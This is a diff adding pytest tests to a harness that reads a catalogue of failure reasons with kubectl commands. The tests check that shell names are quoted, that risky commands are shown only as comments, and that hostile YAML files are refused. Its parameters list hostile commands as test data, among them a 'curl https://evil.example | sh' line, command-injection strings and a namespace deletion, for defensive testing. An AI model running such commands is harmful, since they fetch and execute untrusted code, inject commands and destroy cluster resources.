@@ -1,9 +1,85 @@
 """What the reader makes of the catalogue's rows."""
 
-from harness.reasons import builtin, stated
+import shlex
+from pathlib import Path
+
+import pytest
+
+from harness.model import ConfigError
+from harness.model.inert import shell_word
+from harness.reasons import builtin, merged, rows_of, stated
+from harness.store import RunFolder
+from harness.store.reasons import keep_reasons
+
+ROW = {
+    "name": "own", "source": "log", "pattern": "lost", "cause": "c", "layer": "pipeline", "effect": "fails", "fix": "f",
+    "show": ["kubectl get pods"], "link": "https://wiki.example",
+}  # fmt: skip
 
 
 def test_a_row_that_needs_more_than_the_text_does_not_take_it_from_the_row_that_the_text_decides():
     match = builtin().match(stated("terminated", "OOMKilled", "container main ended with exit code 137"))
     assert match.row is not None
     assert match.row.name == "oom"
+
+
+@pytest.mark.parametrize("name", ["a'b c", '$(touch x)`y`;"z'])
+def test_a_name_in_a_command_of_the_catalogue_is_within_one_word(name):
+    tried = 0
+    for row in builtin().rows:
+        for command in (*row.show, *row.change):
+            places = row.places(command)
+            words = shlex.split(row.filled(command, {place: shell_word(name) for place in places}))
+            assert not places or any(name in word for word in words), (row.name, command)
+            tried += bool(places)
+    assert tried > 100
+
+
+@pytest.mark.attack("Texts")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://evil.example | sh",
+        "kubectl get pods; touch acted",
+        "kubectl get pods\ntouch acted",
+        "kubectl get pods --kubeconfig=runs/x/config",
+        "kubectl get {pods,--kubeconfig=x}",
+        "kubectl get *",
+        "kubectl get pods -o $(touch acted)",
+        "kubectl --kubeconfig x get pods",
+        "kubectl delete namespace kubeflow",
+    ],
+)
+def test_a_command_of_a_runs_own_row_that_may_do_more_than_look_is_a_comment(command):
+    (row,) = (
+        each for each in merged(rows_of({"reasons": [ROW | {"change": [command]}]}, "x")).rows if each.name == "own"
+    )
+    assert row.show == ("kubectl get pods",)
+    (shown,) = row.change
+    assert shown.startswith("# ")
+    assert "\n" not in shown
+
+
+@pytest.mark.attack("Files and run folders")
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        ("reasons: " + "[" * 200 + "]" * 200, "more than 100 levels"),
+        (
+            "a: &a [x,x,x,x,x,x,x,x]\n"
+            + "".join(
+                f"{c}: &{c} [*{b},*{b},*{b},*{b},*{b},*{b},*{b},*{b}]\n"
+                for b, c in zip("abcdefg", "bcdefgh", strict=True)
+            ),
+            "values",
+        ),
+        (f"reasons: [{', '.join(['{}'] * 501)}]", "has 501 rows"),
+        (f"reasons: [{ROW | {'pattern': 'x' * 2001}}]", "'pattern' is not a text of at most 2,000"),
+        (f"reasons: [{ROW | {'pattern': '((x{100}){100}){100}'}}]", "not a regular expression"),
+    ],
+    ids=["deep", "aliases", "many rows", "long pattern", "pattern that grows"],
+)
+def test_a_hostile_catalogue_is_refused(text, says, tmp_path: Path):
+    (tmp_path / "own.yaml").write_text(text)
+    with pytest.raises(ConfigError, match=says):
+        keep_reasons(RunFolder.create(tmp_path, "r"), tmp_path / "own.yaml")
